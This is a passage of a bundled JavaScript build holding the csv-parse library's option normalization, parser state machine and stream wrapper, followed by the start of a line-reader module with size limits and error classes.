    // Great, nothing to do
  } else if (
    options.relax_column_count_less === undefined ||
    options.relax_column_count_less === null
  ) {
    options.relax_column_count_less = false;
  } else {
    throw new Error(
      `Invalid Option: relax_column_count_less must be a boolean, got ${JSON.stringify(options.relax_column_count_less)}`,
    );
  }
  if (typeof options.relax_column_count_more === "boolean") {
    // Great, nothing to do
  } else if (
    options.relax_column_count_more === undefined ||
    options.relax_column_count_more === null
  ) {
    options.relax_column_count_more = false;
  } else {
    throw new Error(
      `Invalid Option: relax_column_count_more must be a boolean, got ${JSON.stringify(options.relax_column_count_more)}`,
    );
  }
  // Normalize option `relax_quotes`
  if (typeof options.relax_quotes === "boolean") {
    // Great, nothing to do
  } else if (
    options.relax_quotes === undefined ||
    options.relax_quotes === null
  ) {
    options.relax_quotes = false;
  } else {
    throw new Error(
      `Invalid Option: relax_quotes must be a boolean, got ${JSON.stringify(options.relax_quotes)}`,
    );
  }
  // Normalize option `skip_empty_lines`
  if (typeof options.skip_empty_lines === "boolean") {
    // Great, nothing to do
  } else if (
    options.skip_empty_lines === undefined ||
    options.skip_empty_lines === null
  ) {
    options.skip_empty_lines = false;
  } else {
    throw new Error(
      `Invalid Option: skip_empty_lines must be a boolean, got ${JSON.stringify(options.skip_empty_lines)}`,
    );
  }
  // Normalize option `skip_records_with_empty_values`
  if (typeof options.skip_records_with_empty_values === "boolean") {
    // Great, nothing to do
  } else if (
    options.skip_records_with_empty_values === undefined ||
    options.skip_records_with_empty_values === null
  ) {
    options.skip_records_with_empty_values = false;
  } else {
    throw new Error(
      `Invalid Option: skip_records_with_empty_values must be a boolean, got ${JSON.stringify(options.skip_records_with_empty_values)}`,
    );
  }
  // Normalize option `skip_records_with_error`
  if (typeof options.skip_records_with_error === "boolean") {
    // Great, nothing to do
  } else if (
    options.skip_records_with_error === undefined ||
    options.skip_records_with_error === null
  ) {
    options.skip_records_with_error = false;
  } else {
    throw new Error(
      `Invalid Option: skip_records_with_error must be a boolean, got ${JSON.stringify(options.skip_records_with_error)}`,
    );
  }
  // Normalize option `rtrim`
  if (
    options.rtrim === undefined ||
    options.rtrim === null ||
    options.rtrim === false
  ) {
    options.rtrim = false;
  } else if (options.rtrim !== true) {
    throw new Error(
      `Invalid Option: rtrim must be a boolean, got ${JSON.stringify(options.rtrim)}`,
    );
  }
  // Normalize option `ltrim`
  if (
    options.ltrim === undefined ||
    options.ltrim === null ||
    options.ltrim === false
  ) {
    options.ltrim = false;
  } else if (options.ltrim !== true) {
    throw new Error(
      `Invalid Option: ltrim must be a boolean, got ${JSON.stringify(options.ltrim)}`,
    );
  }
  // Normalize option `trim`
  if (
    options.trim === undefined ||
    options.trim === null ||
    options.trim === false
  ) {
    options.trim = false;
  } else if (options.trim !== true) {
    throw new Error(
      `Invalid Option: trim must be a boolean, got ${JSON.stringify(options.trim)}`,
    );
  }
  // Normalize options `trim`, `ltrim` and `rtrim`
  if (options.trim === true && opts.ltrim !== false) {
    options.ltrim = true;
  } else if (options.ltrim !== true) {
    options.ltrim = false;
  }
  if (options.trim === true && opts.rtrim !== false) {
    options.rtrim = true;
  } else if (options.rtrim !== true) {
    options.rtrim = false;
  }
  // Normalize option `to`
  if (options.to === undefined || options.to === null) {
    options.to = -1;
  } else if (options.to !== -1) {
    if (typeof options.to === "string" && /\d+/.test(options.to)) {
      options.to = parseInt(options.to);
    }
    if (Number.isInteger(options.to)) {
      if (options.to <= 0) {
        throw new Error(
          `Invalid Option: to must be a positive integer greater than 0, got ${JSON.stringify(opts.to)}`,
        );
      }
    } else {
      throw new Error(
        `Invalid Option: to must be an integer, got ${JSON.stringify(opts.to)}`,
      );
    }
  }
  // Normalize option `to_line`
  if (options.to_line === undefined || options.to_line === null) {
    options.to_line = -1;
  } else if (options.to_line !== -1) {
    if (typeof options.to_line === "string" && /\d+/.test(options.to_line)) {
      options.to_line = parseInt(options.to_line);
    }
    if (Number.isInteger(options.to_line)) {
      if (options.to_line <= 0) {
        throw new Error(
          `Invalid Option: to_line must be a positive integer greater than 0, got ${JSON.stringify(opts.to_line)}`,
        );
      }
    } else {
      throw new Error(
        `Invalid Option: to_line must be an integer, got ${JSON.stringify(opts.to_line)}`,
      );
    }
  }
  return options;
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/api/index.js





const isRecordEmpty = function (record) {
  return record.every(
    (field) =>
      field == null || (field.toString && field.toString().trim() === ""),
  );
};

const api_cr = 13; // `\r`, carriage return, 0x0D in hexadécimal, 13 in decimal
const api_nl = 10; // `\n`, newline, 0x0A in hexadecimal, 10 in decimal

const boms = {
  // Note, the following are equals:
  // Buffer.from("\ufeff")
  // Buffer.from([239, 187, 191])
  // Buffer.from('EFBBBF', 'hex')
  utf8: Buffer.from([239, 187, 191]),
  // Note, the following are equals:
  // Buffer.from "\ufeff", 'utf16le
  // Buffer.from([255, 254])
  utf16le: Buffer.from([255, 254]),
};

const transform = function (original_options = {}) {
  const info = {
    bytes: 0,
    bytes_records: 0,
    comment_lines: 0,
    empty_lines: 0,
    invalid_field_length: 0,
    lines: 1,
    records: 0,
  };
  const options = normalize_options(original_options);
  return {
    info: info,
    original_options: original_options,
    options: options,
    state: init_state(options),
    __needMoreData: function (i, bufLen, end) {
      if (end) return false;
      const { encoding, escape, quote } = this.options;
      const { quoting, needMoreDataSize, recordDelimiterMaxLength } =
        this.state;
      const numOfCharLeft = bufLen - i - 1;
      const requiredLength = Math.max(
        needMoreDataSize,
        // Skip if the remaining buffer smaller than record delimiter
        // If "record_delimiter" is yet to be discovered:
        // 1. It is equals to `[]` and "recordDelimiterMaxLength" equals `0`
        // 2. We set the length to windows line ending in the current encoding
        // Note, that encoding is known from user or bom discovery at that point
        // recordDelimiterMaxLength,
        recordDelimiterMaxLength === 0
          ? Buffer.from("\r\n", encoding).length
          : recordDelimiterMaxLength,
        // Skip if remaining buffer can be an escaped quote
        quoting ? (escape === null ? 0 : escape.length) + quote.length : 0,
        // Skip if remaining buffer can be record delimiter following the closing quote
        quoting ? quote.length + recordDelimiterMaxLength : 0,
      );
      return numOfCharLeft < requiredLength;
    },
    // Central parser implementation
    parse: function (nextBuf, end, push, close) {
      const {
        bom,
        comment_no_infix,
        encoding,
        from_line,
        ltrim,
        max_record_size,
        raw,
        relax_quotes,
        rtrim,
        skip_empty_lines,
        to,
        to_line,
      } = this.options;
      let { comment, escape, quote, record_delimiter } = this.options;
      const { bomSkipped, previousBuf, rawBuffer, escapeIsQuote } = this.state;
      let buf;
      if (previousBuf === undefined) {
        if (nextBuf === undefined) {
          // Handle empty string
          close();
          return;
        } else {
          buf = nextBuf;
        }
      } else if (previousBuf !== undefined && nextBuf === undefined) {
        buf = previousBuf;
      } else {
        buf = Buffer.concat([previousBuf, nextBuf]);
      }
      // Handle UTF BOM
      if (bomSkipped === false) {
        if (bom === false) {
          this.state.bomSkipped = true;
        } else if (buf.length < 3) {
          // No enough data
          if (end === false) {
            // Wait for more data
            this.state.previousBuf = buf;
            return;
          }
        } else {
          for (const encoding in boms) {
            if (boms[encoding].compare(buf, 0, boms[encoding].length) === 0) {
              // Skip BOM
              const bomLength = boms[encoding].length;
              this.state.bufBytesStart += bomLength;
              buf = buf.slice(bomLength);
              // Renormalize original options with the new encoding
              const options = normalize_options({
                ...this.original_options,
                encoding: encoding,
              });
              // Properties are merged with the existing options instance
              for (const key in options) {
                this.options[key] = options[key];
              }
              // Options will re-evaluate the Buffer with the new encoding
              ({ comment, escape, quote } = this.options);
              break;
            }
          }
          this.state.bomSkipped = true;
        }
      }
      const bufLen = buf.length;
      let pos;
      for (pos = 0; pos < bufLen; pos++) {
        // Ensure we get enough space to look ahead
        // There should be a way to move this out of the loop
        if (this.__needMoreData(pos, bufLen, end)) {
          break;
        }
        if (this.state.wasRowDelimiter === true) {
          this.info.lines++;
          this.state.wasRowDelimiter = false;
        }
        if (to_line !== -1 && this.info.lines > to_line) {
          this.state.stop = true;
          close();
          return;
        }
        // Auto discovery of record_delimiter, unix, mac and windows supported
        if (this.state.quoting === false && record_delimiter.length === 0) {
          const record_delimiterCount = this.__autoDiscoverRecordDelimiter(
            buf,
            pos,
          );
          if (record_delimiterCount) {
            record_delimiter = this.options.record_delimiter;
          }
        }
        const chr = buf[pos];
        if (raw === true) {
          rawBuffer.append(chr);
        }
        if (
          (chr === api_cr || chr === api_nl) &&
          this.state.wasRowDelimiter === false
        ) {
          this.state.wasRowDelimiter = true;
        }
        // Previous char was a valid escape char
        // treat the current char as a regular char
        if (this.state.escaping === true) {
          this.state.escaping = false;
        } else {
          // Escape is only active inside quoted fields
          // We are quoting, the char is an escape chr and there is a chr to escape
          // if(escape !== null && this.state.quoting === true && chr === escape && pos + 1 < bufLen){
          if (
            escape !== null &&
            this.state.quoting === true &&
            this.__isEscape(buf, pos, chr) &&
            pos + escape.length < bufLen
          ) {
            if (escapeIsQuote) {
              if (this.__isQuote(buf, pos + escape.length)) {
                this.state.escaping = true;
                pos += escape.length - 1;
                continue;
              }
            } else {
              this.state.escaping = true;
              pos += escape.length - 1;
              continue;
            }
          }
          // Not currently escaping and chr is a quote
          // TODO: need to compare bytes instead of single char
          if (this.state.commenting === false && this.__isQuote(buf, pos)) {
            if (this.state.quoting === true) {
              const nextChr = buf[pos + quote.length];
              const isNextChrTrimable =
                rtrim && this.__isCharTrimable(buf, pos + quote.length);
              const isNextChrComment =
                comment !== null &&
                this.__compareBytes(comment, buf, pos + quote.length, nextChr);
              const isNextChrDelimiter = this.__isDelimiter(
                buf,
                pos + quote.length,
                nextChr,
              );
              const isNextChrRecordDelimiter =
                record_delimiter.length === 0
                  ? this.__autoDiscoverRecordDelimiter(buf, pos + quote.length)
                  : this.__isRecordDelimiter(nextChr, buf, pos + quote.length);
              // Escape a quote
              // Treat next char as a regular character
              if (
                escape !== null &&
                this.__isEscape(buf, pos, chr) &&
                this.__isQuote(buf, pos + escape.length)
              ) {
                pos += escape.length - 1;
              } else if (
                !nextChr ||
                isNextChrDelimiter ||
                isNextChrRecordDelimiter ||
                isNextChrComment ||
                isNextChrTrimable
              ) {
                this.state.quoting = false;
                this.state.wasQuoting = true;
                pos += quote.length - 1;
                continue;
              } else if (relax_quotes === false) {
                const err = this.__error(
                  new CsvError(
                    "CSV_INVALID_CLOSING_QUOTE",
                    [
                      "Invalid Closing Quote:",
                      `got "${String.fromCharCode(nextChr)}"`,
                      `at line ${this.info.lines}`,
                      "instead of delimiter, record delimiter, trimable character",
                      "(if activated) or comment",
                    ],
                    this.options,
                    this.__infoField(),
                  ),
                );
                if (err !== undefined) return err;
              } else {
                this.state.quoting = false;
                this.state.wasQuoting = true;
                this.state.field.prepend(quote);
                pos += quote.length - 1;
              }
            } else {
              if (this.state.field.length !== 0) {
                // In relax_quotes mode, treat opening quote preceded by chrs as regular
                if (relax_quotes === false) {
                  const info = this.__infoField();
                  const bom = Object.keys(boms)
                    .map((b) =>
                      boms[b].equals(this.state.field.toString()) ? b : false,
                    )
                    .filter(Boolean)[0];
                  const err = this.__error(
                    new CsvError(
                      "INVALID_OPENING_QUOTE",
                      [
                        "Invalid Opening Quote:",
                        `a quote is found on field ${JSON.stringify(info.column)} at line ${info.lines}, value is ${JSON.stringify(this.state.field.toString(encoding))}`,
                        bom ? `(${bom} bom)` : undefined,
                      ],
                      this.options,
                      info,
                      {
                        field: this.state.field,
                      },
                    ),
                  );
                  if (err !== undefined) return err;
                }
              } else {
                this.state.quoting = true;
                pos += quote.length - 1;
                continue;
              }
            }
          }
          if (this.state.quoting === false) {
            const recordDelimiterLength = this.__isRecordDelimiter(
              chr,
              buf,
              pos,
            );
            if (recordDelimiterLength !== 0) {
              // Do not emit comments which take a full line
              const skipCommentLine =
                this.state.commenting &&
                this.state.wasQuoting === false &&
                this.state.record.length === 0 &&
                this.state.field.length === 0;
              if (skipCommentLine) {
                this.info.comment_lines++;
                // Skip full comment line
              } else {
                // Activate records emission if above from_line
                if (
                  this.state.enabled === false &&
                  this.info.lines +
                    (this.state.wasRowDelimiter === true ? 1 : 0) >=
                    from_line
                ) {
                  this.state.enabled = true;
                  this.__resetField();
                  this.__resetRecord();
                  pos += recordDelimiterLength - 1;
                  continue;
                }
                // Skip if line is empty and skip_empty_lines activated
                if (
                  skip_empty_lines === true &&
                  this.state.wasQuoting === false &&
                  this.state.record.length === 0 &&
                  this.state.field.length === 0
                ) {
                  this.info.empty_lines++;
                  pos += recordDelimiterLength - 1;
                  continue;
                }
                this.info.bytes = this.state.bufBytesStart + pos;
                const errField = this.__onField();
                if (errField !== undefined) return errField;
                this.info.bytes =
                  this.state.bufBytesStart + pos + recordDelimiterLength;
                const errRecord = this.__onRecord(push);
                if (errRecord !== undefined) return errRecord;
                if (to !== -1 && this.info.records >= to) {
                  this.state.stop = true;
                  close();
                  return;
                }
              }
              this.state.commenting = false;
              pos += recordDelimiterLength - 1;
              continue;
            }
            if (this.state.commenting) {
              continue;
            }
            if (
              comment !== null &&
              (comment_no_infix === false ||
                (this.state.record.length === 0 &&
                  this.state.field.length === 0))
            ) {
              const commentCount = this.__compareBytes(comment, buf, pos, chr);
              if (commentCount !== 0) {
                this.state.commenting = true;
                continue;
              }
            }
            const delimiterLength = this.__isDelimiter(buf, pos, chr);
            if (delimiterLength !== 0) {
              this.info.bytes = this.state.bufBytesStart + pos;
              const errField = this.__onField();
              if (errField !== undefined) return errField;
              pos += delimiterLength - 1;
              continue;
            }
          }
        }
        if (this.state.commenting === false) {
          if (
            max_record_size !== 0 &&
            this.state.record_length + this.state.field.length > max_record_size
          ) {
            return this.__error(
              new CsvError(
                "CSV_MAX_RECORD_SIZE",
                [
                  "Max Record Size:",
                  "record exceed the maximum number of tolerated bytes",
                  `of ${max_record_size}`,
                  `at line ${this.info.lines}`,
                ],
                this.options,
                this.__infoField(),
              ),
            );
          }
        }
        const lappend =
          ltrim === false ||
          this.state.quoting === true ||
          this.state.field.length !== 0 ||
          !this.__isCharTrimable(buf, pos);
        // rtrim in non quoting is handle in __onField
        const rappend = rtrim === false || this.state.wasQuoting === false;
        if (lappend === true && rappend === true) {
          this.state.field.append(chr);
        } else if (rtrim === true && !this.__isCharTrimable(buf, pos)) {
          return this.__error(
            new CsvError(
              "CSV_NON_TRIMABLE_CHAR_AFTER_CLOSING_QUOTE",
              [
                "Invalid Closing Quote:",
                "found non trimable byte after quote",
                `at line ${this.info.lines}`,
              ],
              this.options,
              this.__infoField(),
            ),
          );
        } else {
          if (lappend === false) {
            pos += this.__isCharTrimable(buf, pos) - 1;
          }
          continue;
        }
      }
      if (end === true) {
        // Ensure we are not ending in a quoting state
        if (this.state.quoting === true) {
          const err = this.__error(
            new CsvError(
              "CSV_QUOTE_NOT_CLOSED",
              [
                "Quote Not Closed:",
                `the parsing is finished with an opening quote at line ${this.info.lines}`,
              ],
              this.options,
              this.__infoField(),
            ),
          );
          if (err !== undefined) return err;
        } else {
          // Skip last line if it has no characters
          if (
            this.state.wasQuoting === true ||
            this.state.record.length !== 0 ||
            this.state.field.length !== 0
          ) {
            this.info.bytes = this.state.bufBytesStart + pos;
            const errField = this.__onField();
            if (errField !== undefined) return errField;
            const errRecord = this.__onRecord(push);
            if (errRecord !== undefined) return errRecord;
          } else if (this.state.wasRowDelimiter === true) {
            this.info.empty_lines++;
          } else if (this.state.commenting === true) {
            this.info.comment_lines++;
          }
        }
      } else {
        this.state.bufBytesStart += pos;
        this.state.previousBuf = buf.slice(pos);
      }
      if (this.state.wasRowDelimiter === true) {
        this.info.lines++;
        this.state.wasRowDelimiter = false;
      }
    },
    __onRecord: function (push) {
      const {
        columns,
        group_columns_by_name,
        encoding,
        info,
        from,
        relax_column_count,
        relax_column_count_less,
        relax_column_count_more,
        raw,
        skip_records_with_empty_values,
      } = this.options;
      const { enabled, record } = this.state;
      if (enabled === false) {
        return this.__resetRecord();
      }
      // Convert the first line into column names
      const recordLength = record.length;
      if (columns === true) {
        if (skip_records_with_empty_values === true && isRecordEmpty(record)) {
          this.__resetRecord();
          return;
        }
        return this.__firstLineToColumns(record);
      }
      if (columns === false && this.info.records === 0) {
        this.state.expectedRecordLength = recordLength;
      }
      if (recordLength !== this.state.expectedRecordLength) {
        const err =
          columns === false
            ? new CsvError(
                "CSV_RECORD_INCONSISTENT_FIELDS_LENGTH",
                [
                  "Invalid Record Length:",
                  `expect ${this.state.expectedRecordLength},`,
                  `got ${recordLength} on line ${this.info.lines}`,
                ],
                this.options,
                this.__infoField(),
                {
                  record: record,
                },
              )
            : new CsvError(
                "CSV_RECORD_INCONSISTENT_COLUMNS",
                [
                  "Invalid Record Length:",
                  `columns length is ${columns.length},`, // rename columns
                  `got ${recordLength} on line ${this.info.lines}`,
                ],
                this.options,
                this.__infoField(),
                {
                  record: record,
                },
              );
        if (
          relax_column_count === true ||
          (relax_column_count_less === true &&
            recordLength < this.state.expectedRecordLength) ||
          (relax_column_count_more === true &&
            recordLength > this.state.expectedRecordLength)
        ) {
          this.info.invalid_field_length++;
          this.state.error = err;
          // Error is undefined with skip_records_with_error
        } else {
          const finalErr = this.__error(err);
          if (finalErr) return finalErr;
        }
      }
      if (skip_records_with_empty_values === true && isRecordEmpty(record)) {
        this.__resetRecord();
        return;
      }
      if (this.state.recordHasError === true) {
        this.__resetRecord();
        this.state.recordHasError = false;
        return;
      }
      this.info.records++;
      if (from === 1 || this.info.records >= from) {
        const { objname } = this.options;
        // With columns, records are object
        if (columns !== false) {
          const obj = {};
          // Transform record array to an object
          for (let i = 0, l = record.length; i < l; i++) {
            if (columns[i] === undefined || columns[i].disabled) continue;
            // Turn duplicate columns into an array
            if (
              group_columns_by_name === true &&
              obj[columns[i].name] !== undefined
            ) {
              if (Array.isArray(obj[columns[i].name])) {
                obj[columns[i].name] = obj[columns[i].name].concat(record[i]);
              } else {
                obj[columns[i].name] = [obj[columns[i].name], record[i]];
              }
            } else {
              obj[columns[i].name] = record[i];
            }
          }
          // Without objname (default)
          if (raw === true || info === true) {
            const extRecord = Object.assign(
              { record: obj },
              raw === true
                ? { raw: this.state.rawBuffer.toString(encoding) }
                : {},
              info === true ? { info: this.__infoRecord() } : {},
            );
            const err = this.__push(
              objname === undefined ? extRecord : [obj[objname], extRecord],
              push,
            );
            if (err) {
              return err;
            }
          } else {
            const err = this.__push(
              objname === undefined ? obj : [obj[objname], obj],
              push,
            );
            if (err) {
              return err;
            }
          }
          // Without columns, records are array
        } else {
          if (raw === true || info === true) {
            const extRecord = Object.assign(
              { record: record },
              raw === true
                ? { raw: this.state.rawBuffer.toString(encoding) }
                : {},
              info === true ? { info: this.__infoRecord() } : {},
            );
            const err = this.__push(
              objname === undefined ? extRecord : [record[objname], extRecord],
              push,
            );
            if (err) {
              return err;
            }
          } else {
            const err = this.__push(
              objname === undefined ? record : [record[objname], record],
              push,
            );
            if (err) {
              return err;
            }
          }
        }
      }
      this.__resetRecord();
    },
    __firstLineToColumns: function (record) {
      const { firstLineToHeaders } = this.state;
      try {
        const headers =
          firstLineToHeaders === undefined
            ? record
            : firstLineToHeaders.call(null, record);
        if (!Array.isArray(headers)) {
          return this.__error(
            new CsvError(
              "CSV_INVALID_COLUMN_MAPPING",
              [
                "Invalid Column Mapping:",
                "expect an array from column function,",
                `got ${JSON.stringify(headers)}`,
              ],
              this.options,
              this.__infoField(),
              {
                headers: headers,
              },
            ),
          );
        }
        const normalizedHeaders = normalize_columns_array(headers);
        this.state.expectedRecordLength = normalizedHeaders.length;
        this.options.columns = normalizedHeaders;
        this.__resetRecord();
        return;
      } catch (err) {
        return err;
      }
    },
    __resetRecord: function () {
      if (this.options.raw === true) {
        this.state.rawBuffer.reset();
      }
      this.state.error = undefined;
      this.state.record = [];
      this.state.record_length = 0;
    },
    __onField: function () {
      const { cast, encoding, rtrim, max_record_size } = this.options;
      const { enabled, wasQuoting } = this.state;
      // Short circuit for the from_line options
      if (enabled === false) {
        return this.__resetField();
      }
      let field = this.state.field.toString(encoding);
      if (rtrim === true && wasQuoting === false) {
        field = field.trimRight();
      }
      if (cast === true) {
        const [err, f] = this.__cast(field);
        if (err !== undefined) return err;
        field = f;
      }
      this.state.record.push(field);
      // Increment record length if record size must not exceed a limit
      if (max_record_size !== 0 && typeof field === "string") {
        this.state.record_length += field.length;
      }
      this.__resetField();
    },
    __resetField: function () {
      this.state.field.reset();
      this.state.wasQuoting = false;
    },
    __push: function (record, push) {
      const { on_record } = this.options;
      if (on_record !== undefined) {
        const info = this.__infoRecord();
        try {
          record = on_record.call(null, record, info);
        } catch (err) {
          return err;
        }
        if (record === undefined || record === null) {
          return;
        }
      }
      this.info.bytes_records += this.info.bytes;
      push(record);
    },
    // Return a tuple with the error and the casted value
    __cast: function (field) {
      const { columns, relax_column_count } = this.options;
      const isColumns = Array.isArray(columns);
      // Dont loose time calling cast
      // because the final record is an object
      // and this field can't be associated to a key present in columns
      if (
        isColumns === true &&
        relax_column_count &&
        this.options.columns.length <= this.state.record.length
      ) {
        return [undefined, undefined];
      }
      if (this.state.castField !== null) {
        try {
          const info = this.__infoField();
          return [undefined, this.state.castField.call(null, field, info)];
        } catch (err) {
          return [err];
        }
      }
      if (this.__isFloat(field)) {
        return [undefined, parseFloat(field)];
      } else if (this.options.cast_date !== false) {
        const info = this.__infoField();
        return [undefined, this.options.cast_date.call(null, field, info)];
      }
      return [undefined, field];
    },
    // Helper to test if a character is a space or a line delimiter
    __isCharTrimable: function (buf, pos) {
      const isTrim = (buf, pos) => {
        const { timchars } = this.state;
        loop1: for (let i = 0; i < timchars.length; i++) {
          const timchar = timchars[i];
          for (let j = 0; j < timchar.length; j++) {
            if (timchar[j] !== buf[pos + j]) continue loop1;
          }
          return timchar.length;
        }
        return 0;
      };
      return isTrim(buf, pos);
    },
    // Keep it in case we implement the `cast_int` option
    // __isInt(value){
    //   // return Number.isInteger(parseInt(value))
    //   // return !isNaN( parseInt( obj ) );
    //   return /^(\-|\+)?[1-9][0-9]*$/.test(value)
    // }
    __isFloat: function (value) {
      return value - parseFloat(value) + 1 >= 0; // Borrowed from jquery
    },
    __compareBytes: function (sourceBuf, targetBuf, targetPos, firstByte) {
      if (sourceBuf[0] !== firstByte) return 0;
      const sourceLength = sourceBuf.length;
      for (let i = 1; i < sourceLength; i++) {
        if (sourceBuf[i] !== targetBuf[targetPos + i]) return 0;
      }
      return sourceLength;
    },
    __isDelimiter: function (buf, pos, chr) {
      const { delimiter, ignore_last_delimiters } = this.options;
      if (
        ignore_last_delimiters === true &&
        this.state.record.length === this.options.columns.length - 1
      ) {
        return 0;
      } else if (
        ignore_last_delimiters !== false &&
        typeof ignore_last_delimiters === "number" &&
        this.state.record.length === ignore_last_delimiters - 1
      ) {
        return 0;
      }
      loop1: for (let i = 0; i < delimiter.length; i++) {
        const del = delimiter[i];
        if (del[0] === chr) {
          for (let j = 1; j < del.length; j++) {
            if (del[j] !== buf[pos + j]) continue loop1;
          }
          return del.length;
        }
      }
      return 0;
    },
    __isRecordDelimiter: function (chr, buf, pos) {
      const { record_delimiter } = this.options;
      const recordDelimiterLength = record_delimiter.length;
      loop1: for (let i = 0; i < recordDelimiterLength; i++) {
        const rd = record_delimiter[i];
        const rdLength = rd.length;
        if (rd[0] !== chr) {
          continue;
        }
        for (let j = 1; j < rdLength; j++) {
          if (rd[j] !== buf[pos + j]) {
            continue loop1;
          }
        }
        return rd.length;
      }
      return 0;
    },
    __isEscape: function (buf, pos, chr) {
      const { escape } = this.options;
      if (escape === null) return false;
      const l = escape.length;
      if (escape[0] === chr) {
        for (let i = 0; i < l; i++) {
          if (escape[i] !== buf[pos + i]) {
            return false;
          }
        }
        return true;
      }
      return false;
    },
    __isQuote: function (buf, pos) {
      const { quote } = this.options;
      if (quote === null) return false;
      const l = quote.length;
      for (let i = 0; i < l; i++) {
        if (quote[i] !== buf[pos + i]) {
          return false;
        }
      }
      return true;
    },
    __autoDiscoverRecordDelimiter: function (buf, pos) {
      const { encoding } = this.options;
      // Note, we don't need to cache this information in state,
      // It is only called on the first line until we find out a suitable
      // record delimiter.
      const rds = [
        // Important, the windows line ending must be before mac os 9
        Buffer.from("\r\n", encoding),
        Buffer.from("\n", encoding),
        Buffer.from("\r", encoding),
      ];
      loop: for (let i = 0; i < rds.length; i++) {
        const l = rds[i].length;
        for (let j = 0; j < l; j++) {
          if (rds[i][j] !== buf[pos + j]) {
            continue loop;
          }
        }
        this.options.record_delimiter.push(rds[i]);
        this.state.recordDelimiterMaxLength = rds[i].length;
        return rds[i].length;
      }
      return 0;
    },
    __error: function (msg) {
      const { encoding, raw, skip_records_with_error } = this.options;
      const err = typeof msg === "string" ? new Error(msg) : msg;
      if (skip_records_with_error) {
        this.state.recordHasError = true;
        if (this.options.on_skip !== undefined) {
          try {
            this.options.on_skip(
              err,
              raw ? this.state.rawBuffer.toString(encoding) : undefined,
            );
          } catch (err) {
            return err;
          }
        }
        // this.emit('skip', err, raw ? this.state.rawBuffer.toString(encoding) : undefined);
        return undefined;
      } else {
        return err;
      }
    },
    __infoDataSet: function () {
      return {
        ...this.info,
        columns: this.options.columns,
      };
    },
    __infoRecord: function () {
      const { columns, raw, encoding } = this.options;
      return {
        ...this.__infoDataSet(),
        bytes_records: this.info.bytes,
        error: this.state.error,
        header: columns === true,
        index: this.state.record.length,
        raw: raw ? this.state.rawBuffer.toString(encoding) : undefined,
      };
    },
    __infoField: function () {
      const { columns } = this.options;
      const isColumns = Array.isArray(columns);
      // Bytes records are only incremented when all records'fields are parsed
      const bytes_records = this.info.bytes_records;
      return {
        ...this.__infoRecord(),
        bytes_records: bytes_records,
        column:
          isColumns === true
            ? columns.length > this.state.record.length
              ? columns[this.state.record.length].name
              : null
            : this.state.record.length,
        quoting: this.state.wasQuoting,
      };
    },
  };
};



;// CONCATENATED MODULE: ./node_modules/csv-parse/lib/index.js
/*
CSV Parse

Please look at the [project documentation](https://csv.js.org/parse/) for
additional information.
*/







class Parser extends external_stream_namespaceObject.Transform {
  constructor(opts = {}) {
    super({ ...{ readableObjectMode: true }, ...opts, encoding: null });
    this.api = transform({
      on_skip: (err, chunk) => {
        this.emit("skip", err, chunk);
      },
      ...opts,
    });
    // Backward compatibility
    this.state = this.api.state;
    this.options = this.api.options;
    this.info = this.api.info;
  }
  // Implementation of `Transform._transform`
  _transform(buf, _, callback) {
    if (this.state.stop === true) {
      return;
    }
    const err = this.api.parse(
      buf,
      false,
      (record) => {
        this.push(record);
      },
      () => {
        this.push(null);
        this.end();
        // Fix #333 and break #410
        //   ko: api.stream.iterator.coffee
        //   ko with v21.4.0, ok with node v20.5.1: api.stream.finished # aborted (with generate())
        //   ko: api.stream.finished # aborted (with Readable)
        // this.destroy()
        // Fix #410 and partially break #333
        //   ok: api.stream.iterator.coffee
        //   ok: api.stream.finished # aborted (with generate())
        //   broken: api.stream.finished # aborted (with Readable)
        this.on("end", this.destroy);
      },
    );
    if (err !== undefined) {
      this.state.stop = true;
    }
    callback(err);
  }
  // Implementation of `Transform._flush`
  _flush(callback) {
    if (this.state.stop === true) {
      return;
    }
    const err = this.api.parse(
      undefined,
      true,
      (record) => {
        this.push(record);
      },
      () => {
        this.push(null);
        this.on("end", this.destroy);
      },
    );
    callback(err);
  }
}

const lib_parse = function () {
  let data, options, callback;
  for (const i in arguments) {
    const argument = arguments[i];
    const type = typeof argument;
    if (
      data === undefined &&
      (typeof argument === "string" || Buffer.isBuffer(argument))
    ) {
      data = argument;
    } else if (options === undefined && is_object(argument)) {
      options = argument;
    } else if (callback === undefined && type === "function") {
      callback = argument;
    } else {
      throw new CsvError(
        "CSV_INVALID_ARGUMENT",
        ["Invalid argument:", `got ${JSON.stringify(argument)} at index ${i}`],
        options || {},
      );
    }
  }
  const parser = new Parser(options);
  if (callback) {
    const records =
      options === undefined || options.objname === undefined
        ? []
        : Object.create(null);
    // const records =
    //   options === undefined || options.objname === undefined ? [] : {};
    parser.on("readable", function () {
      let record;
      while ((record = this.read()) !== null) {
        if (options === undefined || options.objname === undefined) {
          records.push(record);
        } else {
          Object.assign(records, {
            [record[0]]: record[1],
            // writable: true,
            // enumerable: true,
            // configurable: true
          });
        }
      }
    });
    parser.on("error", function (err) {
      callback(err, undefined, parser.api.__infoDataSet());
    });
    parser.on("end", function () {
      callback(undefined, records, parser.api.__infoDataSet());
    });
  }
  if (data !== undefined) {
    const writer = function () {
      parser.write(data);
      parser.end();
    };
    // Support Deno, Rollup doesn't provide a shim for setImmediate
    if (typeof setImmediate === "function") {
      setImmediate(writer);
    } else {
      setTimeout(writer, 0);
    }
  }
  return parser;
};

// export default parse


// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __nccwpck_require__(24);
;// CONCATENATED MODULE: external "node:timers/promises"
const promises_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:timers/promises");
;// CONCATENATED MODULE: external "node:net"
const external_node_net_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:net");
;// CONCATENATED MODULE: ./src/core/input/line-reader.ts



/**
 * The longest line read: 64 MiB. An item is one line (a JSON array's elements may span
 * lines), so a longer line is not an item but a file in the wrong format (a one-line JSON
 * array of millions of items, a binary file, /dev/zero); without a cap it would grow in
 * memory until V8's largest string (512 MiB) or the machine gave out.
 */
const MAX_LINE_BYTES = 64 * 1024 * 1024;
/** A line longer than MAX_LINE_BYTES. */
class LineTooLongError extends Error {
    line;
    constructor(line) {
        super(`line ${line}: longer than ${MAX_LINE_BYTES / (1024 * 1024)} MiB`);
        this.line = line;
    }
}
/** The read was stopped through its AbortSignal (SIGINT/SIGTERM while the items were read). */
class ReadStoppedError extends Error {
    constructor() {
        super("reading the items was stopped");
    }
}
/** A line whose bytes are not valid UTF-8: reported, never silently turned into U+FFFD. */
class InvalidUtf8Error extends Error {
    line;
    constructor(line) {
